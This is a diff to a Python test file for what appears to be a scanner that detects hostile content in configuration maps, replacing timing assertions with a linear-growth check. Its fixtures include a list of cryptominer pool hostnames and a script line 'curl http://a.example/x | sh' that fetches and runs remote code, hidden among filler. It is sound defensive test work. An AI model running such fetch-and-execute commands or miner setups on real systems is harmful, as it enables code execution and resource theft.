@@ -3,7 +3,6 @@
 import base64
 import gzip
 import json
-import time
 from typing import Any
 
 import pytest
@@ -16,6 +15,7 @@ from aup.signatures.decoding import from_base64
 from aup.signatures.detectors import built_in
 from aup.signatures.scan import Scan
 from aup.workload import NOTHING
+from tests.growth import grows_linearly
 
 POOLS = ["pool.supportxmr.example", "xmr.nanopool.example", "gulf.moneroocean.example", "eu.miner.example"]
 
@@ -205,9 +205,7 @@ def test_of_a_large_value_whole_lines_around_the_needles_are_read() -> None:
     filler = "echo nothing to see here\n" * 20_000
     manifest = config_map(run_dot_sh=f"#!/bin/sh\n{filler}curl http://a.example/x | sh\n{filler}")
 
-    started = time.perf_counter()
     found = reading(texts(manifest), needles=["a.example"])
-    assert time.perf_counter() - started < 2
     said = [*found.texts()]
     assert "http://a.example/x" in said
     assert sum(map(len, said)) <= MOST_READ
@@ -236,10 +234,8 @@ def test_a_needle_that_is_everywhere_does_not_hide_another() -> None:
     "piece", ["a.", "logsource:\n", "rule x\n", '"', "[", "a:", "- ", "0.0.0.0 a.b\n", "x=y ", "{", "\\", "a=$a;"]
 )
 def test_no_value_takes_long(piece: str) -> None:
-    """A megabyte of anything."""
-    started = time.process_time()
-    reading(texts(config_map(value=piece * (1024 * 1024 // len(piece)))))
-    assert time.process_time() - started < 3
+    """Up to a quarter of a megabyte of anything."""
+    assert grows_linearly(lambda size: reading(texts(config_map(value=piece * (size // len(piece))))), 64 * 1024)
 
 
 @pytest.mark.parametrize(
